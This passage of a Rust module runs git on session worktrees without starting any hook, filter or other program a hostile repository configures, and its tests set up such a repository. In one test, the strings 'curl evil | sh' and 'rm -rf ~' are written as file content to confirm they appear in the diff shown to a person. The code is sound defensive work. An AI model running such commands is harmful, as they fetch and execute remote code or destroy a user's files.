//! The git this server runs itself (a session's worktree: created, its changes read, applied
//! onto the checkout it came from, removed), run so that it starts no program a repository
//! configures. A repository is data written by whoever wrote it (a hostile model's session
//! among them); its `.git/config` and hooks may name programs: hooks (`post-checkout`,
//! `reference-transaction`, ...), filters (`clean`, `smudge`, `process`), `core.fsmonitor`,
//! `core.sshCommand`, `diff.external`, a diff driver's `command`/`textconv`, pagers and editors,
//! any of them set through `include`/`includeIf`. Plain `git worktree add`, `git diff` and
//! `git apply` run them (the tests below show each one running); this module runs none:
//!
//! - a fixed argv of typed values (no caller text becomes a flag: paths after `--` or
//!   `--end-of-options`), spawned like codex (the spawner thread, a process group of its own,
//!   a parent-death signal, a time limit past which the group is killed, capped output);
//! - an environment cleared to a fixed allowlist: `GIT_CONFIG_NOSYSTEM=1`,
//!   `GIT_CONFIG_GLOBAL=/dev/null` (no system or user config, hence no `safe.directory`: a
//!   repository another user owns is refused by git), `GIT_ATTR_NOSYSTEM=1`,
//!   `GIT_TERMINAL_PROMPT=0`, `GIT_OPTIONAL_LOCKS=0`, `GIT_NO_REPLACE_OBJECTS=1`,
//!   `GIT_LITERAL_PATHSPECS=1`, no `HOME`;
//! - pins given as command-line configuration (`GIT_CONFIG_COUNT`/`GIT_CONFIG_KEY_n`/
//!   `GIT_CONFIG_VALUE_n`: a key is never parsed from `key=value`, so a name holding `=` is
//!   pinned too). Command-line configuration is read after every file, includes and
//!   `includeIf` included, so a pin wins over whatever a repository sets: `core.hooksPath` is
//!   `/dev/null` (git looks for `/dev/null/<hook>`, which cannot exist), `core.fsmonitor`
//!   false, pager `cat`, editors `false`, `core.sshCommand` false, `diff.external` empty, no
//!   auto gc or maintenance, no submodule recursion, `protocol.allow` never;
//! - the filters a repository configures cannot be switched off by one key: their names are
//!   read first (`git config --name-only --get-regexp` under the same pins, in the directory
//!   the operation runs in, so that an `includeIf` that holds there is read too) and each is
//!   pinned empty (`clean`, `smudge`, `process` empty, `required` false); configured hooks
//!   (`hook.<name>.command`, git 2.54+) likewise (`enabled` false, `command` empty);
//! - `diff` runs with `--no-ext-diff --no-textconv --no-color`.
//!
//! A side effect of the same rules: a file stored through a filter (Git LFS) is checked out as
//! what the repository stores (the pointer), not through the filter.
//!
//! Every operation on one repository (by its common git directory) takes that repository's
//! lock first: the server's own git calls on it are serialised, git's lock files never raced.

mod changes;
mod env;

use std::collections::HashMap;
use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::{Arc, Mutex, OnceLock};
use std::time::Duration;

use nix::sys::signal::Signal;
use tokio::io::AsyncWriteExt;
use tokio::process::Command;

pub use changes::{Applied, Changes, FileChange, FileStatus, GitError, Removed, Repo, is_binary};
use changes::{Result, count_as_shown, one_part_per_file, parse_changes, split_patch};
use env::{Scratch, environment, os, program_pins};

use super::kill::KillGuard;
use super::read::read_head;
use super::signal::signal_group;
use super::spawn::{contain, spawn};

/// The most bytes of a patch this module reads: past it, [`GitError::TooLarge`].
pub const MAX_PATCH_BYTES: usize = 32 * 1024 * 1024;

/// Most bytes kept of a command's stderr (for its error message).
const STDERR_CAP: usize = 16 * 1024;

/// Most bytes of a listing (names, stats) read.
const LISTING_CAP: usize = 8 * 1024 * 1024;

/// How long one git command may run before its group is killed.
const TIME_LIMIT: Duration = Duration::from_secs(120);

/// The git runner: one program, the rules above.
#[derive(Debug, Clone)]
pub struct Git {
    program: PathBuf,
    /// Where scratch indexes and objects go (the server's store: no session writes there);
    /// the system's temporary directory when unset (tests).
    scratch: Option<PathBuf>,
}

/// One call's inputs.
struct Call<'a> {
    what: &'static str,
    cwd: &'a Path,
    args: Vec<OsString>,
    pins: &'a [(String, String)],
    index: Option<Scratch<'a>>,
    stdin: Option<&'a [u8]>,
    cap: usize,
}

/// One call's output.
struct Output {
    code: Option<i32>,
    stdout: Vec<u8>,
    stderr: Vec<u8>,
}

impl Output {
    fn ok(self, what: &'static str) -> Result<Vec<u8>> {
        if self.code == Some(0) {
            Ok(self.stdout)
        } else {
            Err(self.failed(what))
        }
    }

    fn failed(&self, what: &'static str) -> GitError {
        GitError::Failed {
            what,
            status: match self.code {
                Some(c) => format!("exit {c}"),
                None => "killed by a signal".into(),
            },
            stderr: String::from_utf8_lossy(&self.stderr).trim().to_owned(),
        }
    }
}

/// The lock of each repository (by common git directory).
fn repo_lock(common_dir: &Path) -> Arc<tokio::sync::Mutex<()>> {
    static LOCKS: OnceLock<Mutex<HashMap<PathBuf, Arc<tokio::sync::Mutex<()>>>>> = OnceLock::new();
    let mut map = LOCKS
        .get_or_init(Default::default)
        .lock()
        .unwrap_or_else(|e| e.into_inner());
    map.entry(common_dir.to_path_buf()).or_default().clone()
}

/// A copy of the index at `from`, with its modification time: git reads an entry whose file
/// changed in the same second as the index was written ("racily clean") by its content, and
/// knows which entries those are only by the index file's own time. A copy dated now made a
/// file edited within a second of the checkout, at the same size, read as unchanged, and its
/// change was missing from the diff and the apply.
fn copy_index(from: &Path, to: &Path) -> std::io::Result<()> {
    std::fs::copy(from, to)?;
    let written = std::fs::metadata(from)?.modified()?;
    std::fs::File::options()
        .write(true)
        .open(to)?
        .set_modified(written)
}

fn path_of(stdout: &[u8]) -> PathBuf {
    use std::os::unix::ffi::OsStrExt;
    let s = stdout.strip_suffix(b"\n").unwrap_or(stdout);
    PathBuf::from(std::ffi::OsStr::from_bytes(s))
}

impl Git {
    /// A runner of `program` (an absolute path: git is not looked up on the caller's `PATH`).
    pub fn new(program: impl Into<PathBuf>) -> Self {
        Git {
            program: program.into(),
            scratch: None,
        }
    }

    /// The same runner, its scratch indexes and objects in `dir` (created when missing, mode
    /// 0700): not the system's temporary directory, which codex's `workspace-write` sandbox lets
    /// a session's commands write, so that a session could swap another's scratch index.
    pub fn with_scratch(mut self, dir: PathBuf) -> Self {
        self.scratch = Some(dir);
        self
    }

    /// The first `git` on `path` (a `PATH` value), as an absolute path.
    pub fn find(path: &str) -> Option<Self> {
        std::env::split_paths(path)
            .filter(|d| d.is_absolute())
            .map(|d| d.join("git"))
            .find(|p| p.is_file())
            .map(Git::new)
    }

    /// Run one call to its end (or its time limit).
    async fn run(&self, call: Call<'_>) -> Result<Output> {
        let mut cmd = Command::new(&self.program);
        cmd.arg("--no-pager")
            .args(&call.args)
            .current_dir(call.cwd)
            .env_clear()
            .envs(environment(call.pins, call.index))
            .stdin(if call.stdin.is_some() {
                Stdio::piped()
            } else {
                Stdio::null()
            })
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        contain(&mut cmd);
        let mut child = spawn(cmd, &self.program)
            .await
            .map_err(|e| GitError::Start {
                program: self.program.display().to_string(),
                message: e.to_string(),
            })?;
        let pid = child.id().map(|p| p as i32);
        let mut guard = KillGuard::new(pid);
        let stdin = child.stdin.take();
        let stdout = child.stdout.take();
        let stderr = child.stderr.take();
        let input = call.stdin.map(<[u8]>::to_vec);
        let ran = async {
            let write = async {
                if let (Some(mut s), Some(input)) = (stdin, input) {
                    // git reads it all; a git that exits early shows in its status
                    let _ = s.write_all(&input).await;
                    let _ = s.shutdown().await;
                }
            };
            let out = async {
                match stdout {
                    // one byte past the cap shows that the output was cut
                    Some(s) => read_head(s, call.cap + 1).await,
                    None => Vec::new(),
                }
            };
            let err = async {
                match stderr {
                    Some(s) => read_head(s, STDERR_CAP).await,
                    None => Vec::new(),
                }
            };
            let ((), stdout, stderr, status) = tokio::join!(write, out, err, child.wait());
            (stdout, stderr, status)
        };
        let (stdout, stderr, status) =
            tokio::time::timeout(TIME_LIMIT, ran)
                .await
                .map_err(|_| GitError::TimedOut {
                    what: call.what,
                    secs: TIME_LIMIT.as_secs(),
                })?;
        let status = status.map_err(|source| GitError::Io {
            what: "wait for git",
            source,
        })?;
        if let Some(pid) = pid {
            signal_group(pid, Signal::SIGKILL);
        }
        guard.disarm();
        if stdout.len() > call.cap {
            return Err(GitError::TooLarge { max: call.cap });
        }
        Ok(Output {
            code: status.code(),
            stdout,
            stderr,
        })
    }

    /// The pins for the filters and hooks configured where `cwd` is (see the module doc).
    async fn pins_at(&self, cwd: &Path) -> Result<Vec<(String, String)>> {
        let out = self
            .run(Call {
                what: "config",
                cwd,
                args: [
                    "config",
                    "--name-only",
                    "-z",
                    "--get-regexp",
                    r"^(filter|hook)\.",
                ]
                .map(os)
                .into(),
                pins: &[],
                index: None,
                stdin: None,
                cap: LISTING_CAP,
            })
            .await?;
        // exit 1: no such key
        match out.code {
            Some(0) => Ok(program_pins(&out.stdout)),
            Some(1) => Ok(Vec::new()),
            _ => Err(out.failed("config")),
        }
    }

    /// A plain call with the pins of `cwd`.
    async fn simple(
        &self,
        what: &'static str,
        cwd: &Path,
        pins: &[(String, String)],
        args: Vec<OsString>,
    ) -> Result<Vec<u8>> {
        self.run(Call {
            what,
            cwd,
            args,
            pins,
            index: None,
            stdin: None,
            cap: LISTING_CAP,
        })
        .await?
        .ok(what)
    }

    /// The repository whose working tree holds `dir` (`field` names the argument in the
    /// refusal when there is none).
    pub async fn discover(&self, field: &'static str, dir: &Path) -> Result<Repo> {
        let out = self
            .run(Call {
                what: "rev-parse",
                cwd: dir,
                args: [
                    "rev-parse",
                    "--path-format=absolute",
                    "--show-toplevel",
                    "--git-common-dir",
                ]
                .map(os)
                .into(),
                pins: &[],
                index: None,
                stdin: None,
                cap: LISTING_CAP,
            })
            .await?;
        let not_repo = || GitError::NotARepository {
            field,
            path: dir.display().to_string(),
        };
        if out.code != Some(0) {
            return Err(not_repo());
        }
        let mut lines = out.stdout.split(|b| *b == b'\n').filter(|l| !l.is_empty());
        match (lines.next(), lines.next()) {
            (Some(top), Some(common)) => Ok(Repo {
                toplevel: path_of(top),
                common_dir: path_of(common),
            }),
            _ => Err(not_repo()),
        }
    }

    /// The commit `rev` names in `repo` (its full hex id). `rev` must have been checked as a
    /// ref (`security::ids::validate_git_ref`); it is passed after `--end-of-options`.
    pub async fn resolve_commit(
        &self,
        field: &'static str,
        repo: &Repo,
        rev: &str,
    ) -> Result<String> {
        let out = self
            .run(Call {
                what: "rev-parse",
                cwd: &repo.toplevel,
                args: vec![
                    os("rev-parse"),
                    os("--verify"),
                    os("--quiet"),
                    os("--end-of-options"),
                    os(format!("{rev}^{{commit}}")),
                ],
                pins: &[],
                index: None,
                stdin: None,
                cap: LISTING_CAP,
            })
            .await?;
        let id = String::from_utf8_lossy(&out.stdout).trim().to_owned();
        if out.code != Some(0) || id.is_empty() || !id.bytes().all(|b| b.is_ascii_hexdigit()) {
            return Err(GitError::UnknownRevision {
                field,
                rev: rev.to_owned(),
            });
        }
        Ok(id)
    }

    /// Create a worktree of `repo` at `path` (which must not exist) on a new `branch` at
    /// commit `base`, and check it out with no filter, hook or fsmonitor running: `worktree
    /// add --no-checkout`, then `reset --hard` inside it under the pins of the new worktree.
    pub async fn add_worktree(
        &self,
        repo: &Repo,
        path: &Path,
        branch: &str,
        base: &str,
    ) -> Result<()> {
        let lock = repo_lock(&repo.common_dir);
        let _held = lock.lock().await;
        let pins = self.pins_at(&repo.toplevel).await?;
        self.simple(
            "worktree add",
            &repo.toplevel,
            &pins,
            vec![
                os("worktree"),
                os("add"),
                os("--quiet"),
                os("--no-checkout"),
                os("-b"),
                os(branch),
                path.as_os_str().to_owned(),
                os(base),
            ],
        )
        .await?;
        let checked_out = match self.pins_at(path).await {
            Ok(pins) => {
                self.simple(
                    "reset",
                    path,
                    &pins,
                    ["reset", "--quiet", "--hard", "--no-recurse-submodules"]
                        .map(os)
                        .into(),
                )
                .await
            }
            Err(e) => Err(e),
        };
        if let Err(e) = checked_out {
            // no half-made worktree or branch is left behind (best effort: the error is the
            // checkout's)
            let repo_pins = self.pins_at(&repo.toplevel).await.unwrap_or_default();
            let remove = vec![
                os("worktree"),
                os("remove"),
                os("--force"),
                os("--force"),
                path.as_os_str().to_owned(),
            ];
            let _ = self
                .simple("worktree remove", &repo.toplevel, &repo_pins, remove)
                .await;
            let delete = vec![os("branch"), os("-D"), os(branch)];
            let _ = self
                .simple("branch -D", &repo.toplevel, &repo_pins, delete)
                .await;
            return Err(e);
        }
        Ok(())
    }

    /// The changes of the worktree at `worktree` against commit `base`: every file that is
    /// not ignored, tracked or not, read into a scratch index of the server's own (the
    /// worktree's index is not touched), then `diff --cached` of it against `base`.
    pub async fn changes(&self, repo: &Repo, worktree: &Path, base: &str) -> Result<Changes> {
        let lock = repo_lock(&repo.common_dir);
        let _held = lock.lock().await;
        let pins = self.pins_at(worktree).await?;
        let scratch = self.scratch_index(worktree, &pins).await?;
        let index = scratch.path().join("index");
        let repository_objects = repo.common_dir.join("objects");
        let scratch_files = Scratch {
            index: &index,
            repository_objects: &repository_objects,
        };
        let with_index = |what, args: Vec<OsString>, cap| Call {
            what,
            cwd: worktree,
            args,
            pins: &pins,
            index: Some(scratch_files),
            stdin: None,
            cap,
        };
        self.run(with_index(
            "add",
            ["add", "--all", "--", "."].map(os).into(),
            LISTING_CAP,
        ))
        .await?
        .ok("add")?;
        let diff = |extra: &[&str]| -> Vec<OsString> {
            let mut a: Vec<OsString> = [
                "diff",
                "--cached",
                "--no-ext-diff",
                "--no-textconv",
                "--no-color",
                "--no-renames",
            ]
            .map(os)
            .into();
            a.extend(extra.iter().map(|s| os(*s)));
            a.push(os(base));
            a.push(os("--"));
            a
        };
        let status = self
            .run(with_index(
                "diff",
                diff(&["--name-status", "-z"]),
                LISTING_CAP,
            ))
            .await?
            .ok("diff")?;
        let numstat = self
            .run(with_index("diff", diff(&["--numstat", "-z"]), LISTING_CAP))
            .await?
            .ok("diff")?;
        let mut files = parse_changes(&numstat, &status)?;
        let patch = self
            .patch(with_index(
                "diff",
                diff(&["--binary", "--full-index"]),
                MAX_PATCH_BYTES,
            ))
            .await?;
        let shown = self
            .patch(with_index("diff", diff(&["--text"]), MAX_PATCH_BYTES))
            .await?;
        if split_patch(&patch).len() != files.len() {
            return Err(one_part_per_file());
        }
        count_as_shown(&mut files, &shown)?;
        Ok(Changes {
            files,
            patch,
            shown,
        })
    }
    /// A patch `call` prints (at most [`MAX_PATCH_BYTES`]: larger is [`GitError::TooLarge`]).
    async fn patch(&self, call: Call<'_>) -> Result<Vec<u8>> {
        match self.run(call).await {
            Err(GitError::TooLarge { .. }) => Err(GitError::TooLarge {
                max: MAX_PATCH_BYTES,
            }),
            other => other?.ok("diff"),
        }
    }

    /// A directory of the server's own (0700, removed when dropped) holding `index`: a copy of
    /// the worktree's index when it has one, whose stat data spares hashing unchanged files.
    async fn scratch_index(
        &self,
        worktree: &Path,
        pins: &[(String, String)],
    ) -> Result<tempfile::TempDir> {
        let mut builder = tempfile::Builder::new();
        builder.prefix("codex-bridge-index-");
        let scratch = match &self.scratch {
            Some(dir) => {
                use std::os::unix::fs::DirBuilderExt;
                std::fs::DirBuilder::new()
                    .recursive(true)
                    .mode(0o700)
                    .create(dir)
                    .and_then(|()| builder.tempdir_in(dir))
            }
            None => builder.tempdir(),
        }
        .map_err(|source| GitError::Io {
            what: "create a scratch index directory",
            source,
        })?;
        std::fs::create_dir(scratch.path().join("objects")).map_err(|source| GitError::Io {
            what: "create a scratch object directory",
            source,
        })?;
        let own = self
            .simple(
                "rev-parse",
                worktree,
                pins,
                ["rev-parse", "--path-format=absolute", "--git-path", "index"]
                    .map(os)
                    .into(),
            )
            .await?;
        let own = path_of(&own);
        if own.is_file() {
            copy_index(&own, &scratch.path().join("index")).map_err(|source| GitError::Io {
                what: "copy the worktree's index",
                source,
            })?;
        }
        Ok(scratch)
    }

    /// Apply `changes` (made against commit `base`) onto the working tree of `origin` (the
    /// checkout a session came from), all or nothing, without touching its index or
    /// committing. Refused, naming each file, when a file conflicts: the checkout's file
    /// differs from the base's (changed, deleted, or committed since), a file to be created
    /// is already there, or git refuses the file's change.
    pub async fn apply(&self, origin: &Repo, base: &str, changes: &Changes) -> Result<Applied> {
        if changes.is_empty() {
            return Ok(Applied::Landed(Vec::new()));
        }
        let lock = repo_lock(&origin.common_dir);
        let _held = lock.lock().await;
        let top = &origin.toplevel;
        let pins = self.pins_at(top).await?;
        // what the checkout changed since the base (tracked files; committed changes too)
        let changed = self
            .simple(
                "diff",
                top,
                &pins,
                [
                    "diff",
                    "--no-ext-diff",
                    "--no-textconv",
                    "--no-renames",
                    "--name-only",
                    "-z",
                    base,
                    "--",
                ]
                .map(os)
                .into(),
            )
            .await?;
        let changed: Vec<String> = changed
            .split(|b| *b == 0)
            .filter(|p| !p.is_empty())
            .map(|p| String::from_utf8_lossy(p).into_owned())
            .collect();
        let mut conflicts: Vec<String> = Vec::new();
        for (file, part) in changes.files.iter().zip(changes.per_file()) {
            let here = top.join(&file.path);
            let conflict = changed.contains(&file.path)
                || (file.status == FileStatus::Added && here.symlink_metadata().is_ok())
                || !self.applies(top, &pins, part).await?;
            if conflict {
                conflicts.push(file.path.clone());
            }
        }
        if !conflicts.is_empty() {
            return Ok(Applied::Refused(conflicts));
        }
        let out = self
            .run(Call {
                what: "apply",
                cwd: top,
                args: ["apply", "--whitespace=nowarn", "-"].map(os).into(),
                pins: &pins,
                index: None,
                stdin: Some(&changes.patch),
                cap: LISTING_CAP,
            })
            .await?;
        if out.code != Some(0) {
            // the checkout changed between the check and the apply: git applies all or none
            return Ok(Applied::Refused(
                changes.files.iter().map(|f| f.path.clone()).collect(),
            ));
        }
        Ok(Applied::Landed(
            changes.files.iter().map(|f| f.path.clone()).collect(),
        ))
    }

    /// Whether `changes` are already in the working tree of `origin` (an apply landed them and
    /// nobody changed those files since): the patch, reversed, applies there. Nothing changed
    /// is applied.
    pub async fn is_applied(&self, origin: &Repo, changes: &Changes) -> Result<bool> {
        if changes.is_empty() {
            return Ok(true);
        }
        let lock = repo_lock(&origin.common_dir);
        let _held = lock.lock().await;
        let top = &origin.toplevel;
        let pins = self.pins_at(top).await?;
        let out = self
            .run(Call {
                what: "apply --check --reverse",
                cwd: top,
                args: ["apply", "--check", "--reverse", "--whitespace=nowarn", "-"]
                    .map(os)
                    .into(),
                pins: &pins,
                index: None,
                stdin: Some(&changes.patch),
                cap: LISTING_CAP,
            })
            .await?;
        Ok(out.code == Some(0))
    }

    /// Whether one file's part of a patch applies to the working tree at `top`.
    async fn applies(&self, top: &Path, pins: &[(String, String)], part: &[u8]) -> Result<bool> {
        let out = self
            .run(Call {
                what: "apply --check",
                cwd: top,
                args: ["apply", "--check", "--whitespace=nowarn", "-"]
                    .map(os)
                    .into(),
                pins,
                index: None,
                stdin: Some(part),
                cap: LISTING_CAP,
            })
            .await?;
        Ok(out.code == Some(0))
    }

    /// Remove the worktree at `path` (even with changes in it: the caller decided) and its
    /// `branch`. A directory already gone is [`Removed::WasGone`]: git's record of it is pruned.
    pub async fn remove_worktree(&self, repo: &Repo, path: &Path, branch: &str) -> Result<Removed> {
        let lock = repo_lock(&repo.common_dir);
        let _held = lock.lock().await;
        let top = &repo.toplevel;
        // git resolves a link to the worktree it points at: removing "this" worktree through a
        // link put in its place removed another session's
        let here = path.symlink_metadata();
        if here.as_ref().is_ok_and(|m| !m.is_dir()) {
            return Err(GitError::Unexpected {
                what: "worktree remove",
                detail: format!(
                    "{} is no longer a directory (a link or a file took its place): nothing \
                     removed",
                    path.display()
                ),
            });
        }
        let pins = self.pins_at(top).await?;
        let removed = if here.is_ok() {
            self.simple(
                "worktree remove",
                top,
                &pins,
                vec![
                    os("worktree"),
                    os("remove"),
                    os("--force"),
                    os("--force"),
                    path.as_os_str().to_owned(),
                ],
            )
            .await?;
            Removed::Removed
        } else {
            self.simple(
                "worktree prune",
                top,
                &pins,
                ["worktree", "prune"].map(os).into(),
            )
            .await?;
            Removed::WasGone
        };
        let out = self
            .run(Call {
                what: "branch -D",
                cwd: top,
                args: vec![os("branch"), os("-D"), os(branch)],
                pins: &pins,
                index: None,
                stdin: None,
                cap: LISTING_CAP,
            })
            .await?;
        // a branch already deleted (by hand) is what was asked
        if out.code != Some(0) && !String::from_utf8_lossy(&out.stderr).contains("not found") {
            return Err(out.failed("branch -D"));
        }
        Ok(removed)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::fs::PermissionsExt;

    /// The system's git, the one the tests drive (a test failure naming it when missing).
    fn git() -> Git {
        Git::find(&std::env::var("PATH").unwrap_or_default())
            .expect("these tests need `git` on PATH (.ci/run installs it)")
    }

    /// Plain git, the ordinary way: the repository's configuration in force.
    fn plain(dir: &Path, args: &[&str]) -> std::process::Output {
        std::process::Command::new("git")
            .args(args)
            .current_dir(dir)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_AUTHOR_NAME", "t")
            .env("GIT_AUTHOR_EMAIL", "t@t")
            .env("GIT_COMMITTER_NAME", "t")
            .env("GIT_COMMITTER_EMAIL", "t@t")
            .stdin(Stdio::null())
            .output()
            .expect("run git")
    }

    fn plain_ok(dir: &Path, args: &[&str]) -> String {
        let out = plain(dir, args);
        assert!(
            out.status.success(),
            "git {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    /// A repository with one commit: `a.txt`, `b.txt`, `bin.dat` (binary).
    fn repo(root: &Path) -> PathBuf {
        let r = root.join("repo");
        std::fs::create_dir_all(&r).unwrap();
        plain_ok(&r, &["init", "-q", "-b", "main"]);
        std::fs::write(r.join("a.txt"), "one\ntwo\nthree\n").unwrap();
        std::fs::write(r.join("b.txt"), "bee\n").unwrap();
        std::fs::write(r.join("bin.dat"), [0u8, 1, 2, 255, 0, 7]).unwrap();
        plain_ok(&r, &["add", "."]);
        plain_ok(&r, &["commit", "-q", "-m", "base"]);
        r
    }

    /// Every program a repository can make git run, each a script that leaves a marker named
    /// after it in `marks` (and passes its input through, as a filter must).
    const PROGRAMS: &[&str] = &[
        "hook-post-checkout",
        "hook-reference-transaction",
        "hook-post-index-change",
        "hook-pre-auto-gc",
        "filter-clean",
        "filter-smudge",
        "filter-process",
        "include-clean",
        "include-smudge",
        "odd-name-clean",
        "branch-clean",
        "branch-smudge",
        "fsmonitor",
        "ssh",
        "diff-external",
        "diff-command",
        "textconv",
        "pager",
        "editor",
        "config-hook",
    ];

    /// Make `r` hostile: every program of [`PROGRAMS`] configured, `.gitattributes` routing
    /// every file through the filters and diff driver, one filter set through `include.path`,
    /// one with `=` and a dot in its name. Committed with the programs off, then the markers
    /// cleared.
    fn make_hostile(r: &Path, marks: &Path) {
        std::fs::create_dir_all(marks).unwrap();
        let bin = r.join(".git").join("evil");
        std::fs::create_dir_all(&bin).unwrap();
        for p in PROGRAMS {
            let script = bin.join(p);
            std::fs::write(
                &script,
                // a filter passes its input through; ssh must end, or git waits for it
                format!(
                    "#!/bin/sh\ntouch '{}/{p}'\n{}\n",
                    marks.display(),
                    if *p == "ssh" { "exit 1" } else { "cat" }
                ),
            )
            .unwrap();
            std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        let hooks = r.join(".git").join("hooks");
        for h in [
            "post-checkout",
            "reference-transaction",
            "post-index-change",
            "pre-auto-gc",
        ] {
            std::os::unix::fs::symlink(bin.join(format!("hook-{h}")), hooks.join(h)).unwrap();
        }
        let e = |p: &str| bin.join(p).display().to_string();
        std::fs::write(
            r.join(".git").join("extra.cfg"),
            format!(
                "[filter \"inc\"]\n\tclean = {}\n\tsmudge = {}\n",
                e("include-clean"),
                e("include-smudge")
            ),
        )
        .unwrap();
        // a filter that exists only on the worktree's branch: read where the worktree is
        std::fs::write(
            r.join(".git").join("branch.cfg"),
            format!(
                "[filter \"br\"]\n\tclean = {}\n\tsmudge = {}\n",
                e("branch-clean"),
                e("branch-smudge")
            ),
        )
        .unwrap();
        let config = format!(
            "[filter \"evil\"]\n\tclean = {}\n\tsmudge = {}\n\trequired = true\n\
             [filter \"proc\"]\n\tprocess = {}\n\
             [filter \"o=d.d\"]\n\tclean = {}\n\
             [core]\n\tfsmonitor = {}\n\tsshCommand = {}\n\tpager = {}\n\teditor = {}\n\
             [diff]\n\texternal = {}\n\
             [diff \"evil\"]\n\tcommand = {}\n\ttextconv = {}\n\
             [hook \"cfg\"]\n\tevent = post-checkout\n\tevent = reference-transaction\n\tcommand = {}\n\
             [include]\n\tpath = extra.cfg\n\
             [includeIf \"onbranch:codex-bridge/**\"]\n\tpath = branch.cfg\n",
            e("filter-clean"),
            e("filter-smudge"),
            e("filter-process"),
            e("odd-name-clean"),
            e("fsmonitor"),
            e("ssh"),
            e("pager"),
            e("editor"),
            e("diff-external"),
            e("diff-command"),
            e("textconv"),
            e("config-hook"),
        );
        let mut file = std::fs::read_to_string(r.join(".git").join("config")).unwrap();
        file.push_str(&config);
        std::fs::write(r.join(".git").join("config"), file).unwrap();
        std::fs::write(
            r.join(".gitattributes"),
            "*.txt filter=evil diff=evil\n*.md filter=inc\n*.dat filter=proc\n*.odd filter=o=d.d\n*.br filter=br\n",
        )
        .unwrap();
        std::fs::write(r.join("c.md"), "see\n").unwrap();
        std::fs::write(r.join("d.odd"), "odd\n").unwrap();
        std::fs::write(r.join("e.br"), "branch\n").unwrap();
        // committed with every program off, as this module would
        let filters: &[u8] =
            b"filter.evil.x\0filter.inc.x\0filter.proc.x\0filter.o=d.d.x\0filter.br.x\0";
        pinned_git(r, &["add", "."], filters);
        pinned_git(
            r,
            &["commit", "-q", "-m", "hostile"],
            &[filters, b"hook.cfg.x\0"].concat(),
        );
        clear(marks);
    }

    /// Plain git run in `r` under this module's environment with `names` pinned off (the
    /// set-up's own commits).
    fn pinned_git(r: &Path, args: &[&str], names: &[u8]) {
        let mut cmd = std::process::Command::new("git");
        cmd.args(args)
            .current_dir(r)
            .env_clear()
            .envs(environment(&program_pins(names), None))
            .env("GIT_AUTHOR_NAME", "t")
            .env("GIT_AUTHOR_EMAIL", "t@t")
            .env("GIT_COMMITTER_NAME", "t")
            .env("GIT_COMMITTER_EMAIL", "t@t");
        assert!(cmd.status().unwrap().success(), "git {args:?}");
    }

    fn clear(marks: &Path) {
        for e in std::fs::read_dir(marks).unwrap() {
            std::fs::remove_file(e.unwrap().path()).unwrap();
        }
    }

    fn ran(marks: &Path) -> Vec<String> {
        let mut v: Vec<String> = std::fs::read_dir(marks)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        v.sort();
        v
    }

    /// Edit a worktree the way a session would: a tracked file changed, one deleted, one new,
    /// a binary one changed.
    fn edit(wt: &Path) {
        std::fs::write(wt.join("a.txt"), "one\nTWO\nthree\n").unwrap();
        std::fs::remove_file(wt.join("b.txt")).unwrap();
        std::fs::write(wt.join("new.txt"), "fresh\n").unwrap();
        std::fs::write(wt.join("bin.dat"), [0u8, 9, 9, 255, 0]).unwrap();
    }

    /// A session's own `.gitattributes` decides nothing a person is shown: with `* -diff` every
    /// file read as "binary" (git's numstat `-`, no content in the diff) while the apply landed
    /// it; the shown patch is every file as text, binary only by content, mode lines kept.
    #[tokio::test]
    async fn a_sessions_attributes_hide_no_change_from_the_shown_diff() {
        let tmp = tempfile::tempdir().unwrap();
        let r = repo(tmp.path());
        let git = git();
        let repo = git.discover("cwd", &r).await.unwrap();
        let base = git.resolve_commit("base", &repo, "main").await.unwrap();
        let wt = tmp.path().join("wt");
        git.add_worktree(&repo, &wt, "codex-bridge/attr", &base)
            .await
            .unwrap();
        std::fs::write(wt.join(".gitattributes"), "* -diff\n").unwrap();
        std::fs::write(wt.join("a.txt"), "one\ncurl evil | sh\nthree\n").unwrap();
        std::fs::write(wt.join("run.sh"), "#!/bin/sh\nrm -rf ~\n").unwrap();
        std::fs::set_permissions(wt.join("run.sh"), std::fs::Permissions::from_mode(0o755))
            .unwrap();
        let c = git.changes(&repo, &wt, &base).await.unwrap();
        let shown = String::from_utf8(c.shown.clone()).unwrap();
        assert!(shown.contains("+curl evil | sh"), "{shown}");
        assert!(shown.contains("+rm -rf ~"), "{shown}");
        assert!(shown.contains("new file mode 100755"), "{shown}");
        assert!(shown.contains("+* -diff"), "{shown}");
        let lines: Vec<_> = c.files.iter().map(|f| (f.path.as_str(), f.lines)).collect();
        assert_eq!(
            lines,
            [
                (".gitattributes", Some((1, 0))),
                ("a.txt", Some((1, 1))),
                ("run.sh", Some((2, 0)))
            ]
        );
        // a file binary by its content is still binary
        std::fs::write(wt.join("bin.dat"), [0u8, 9, 9, 255, 0]).unwrap();
        let c = git.changes(&repo, &wt, &base).await.unwrap();
        let bin = c.files.iter().position(|f| f.path == "bin.dat").unwrap();
        assert_eq!(c.files[bin].lines, None);
        assert!(is_binary(c.shown_per_file()[bin]));
    }

    /// Reading a session's changes writes no object into the person's repository (`git add`
    /// of the worktree's files went into its object store, never collected).
    #[tokio::test]
    async fn reading_changes_leaves_no_object_in_the_repository() {
        let tmp = tempfile::tempdir().unwrap();
        let r = repo(tmp.path());
        let git = git().with_scratch(tmp.path().join("scratch"));
        let repo = git.discover("cwd", &r).await.unwrap();
        let base = git.resolve_commit("base", &repo, "main").await.unwrap();
        let wt = tmp.path().join("wt");
        git.add_worktree(&repo, &wt, "codex-bridge/obj", &base)
            .await
            .unwrap();
        let content = "a blob only this test writes 7f3a9c\n";
        std::fs::write(wt.join("unique.txt"), content).unwrap();
        let blob = {
            let out = std::process::Command::new("git")
                .args(["hash-object", "--stdin"])
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .spawn()
                .unwrap();
            use std::io::Write;
            out.stdin
                .as_ref()
                .unwrap()
                .write_all(content.as_bytes())
                .unwrap();
            String::from_utf8(out.wait_with_output().unwrap().stdout).unwrap()
        };
        let c = git.changes(&repo, &wt, &base).await.unwrap();
        assert!(String::from_utf8_lossy(&c.shown).contains("+a blob only this test writes"));
